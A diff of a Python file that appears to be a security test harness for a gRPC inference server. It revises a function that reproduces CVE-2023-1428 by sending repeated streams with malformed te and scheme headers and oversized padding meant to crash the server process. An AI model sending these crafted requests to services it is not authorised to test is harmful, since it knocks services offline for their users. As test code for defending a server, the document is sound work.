@@ -195,12 +195,16 @@ def metadata(attacker: Attacker) -> None:
 def headers_of_an_advisory(attacker: Attacker) -> None:
     """CVE-2023-1428: gRPC may end the process at these, with more than 8 KB behind them."""
     large = header("x-large", b"x" * 9000)
-    for instead, more in (({"te": b"x"}, b""), ({"scheme": b"x"}, b""), ({}, header("grpclb_client_stats", b"x"))):
+    for te, scheme, more in (
+        (b"x", b"http", b""),
+        (b"trailers", b"x", b""),
+        (b"trailers", b"http", header("grpclb_client_stats", b"x")),
+    ):
         for tail in (b"", large):
             connection = attacker.connection()
             with contextlib.suppress(OSError):  # closed by the server
                 for _ in range(20):
-                    connection.open_stream(INFERENCE + "Generate", more + tail, **instead)
+                    connection.open_stream(INFERENCE + "Generate", more + tail, scheme=scheme, te=te)
 
 
 def idle_connections(attacker: Attacker) -> None:
